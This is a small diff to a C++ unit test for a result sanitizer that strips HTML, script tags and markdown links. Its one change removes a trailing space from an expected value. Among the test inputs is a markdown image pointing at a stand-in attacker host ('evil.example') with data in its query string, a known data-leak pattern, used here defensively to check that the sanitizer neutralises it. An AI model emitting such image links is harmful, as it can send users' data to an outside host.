@@ -40,7 +40,7 @@ TEST_F(ResultGuardTest, TakesOutControlSequencesAndInvisibleCharacters) {
 
 TEST_F(ResultGuardTest, TakesOutMarkup) {
   EXPECT_EQ(text("<b>Bold</b> lamp<br/>warm"), "Bold lamp warm");
-  EXPECT_EQ(text("Lamp <script>add()</script>"), std::string(kQuotedLabel) + "Lamp add() ");
+  EXPECT_EQ(text("Lamp <script>add()</script>"), std::string(kQuotedLabel) + "Lamp add()");
   EXPECT_EQ(text("see [our guide](https://shop.example/guide)"), "see our guide");
   EXPECT_EQ(text("![x](https://evil.example/?q=cart)"), std::string(kQuotedLabel) + "x");
 }
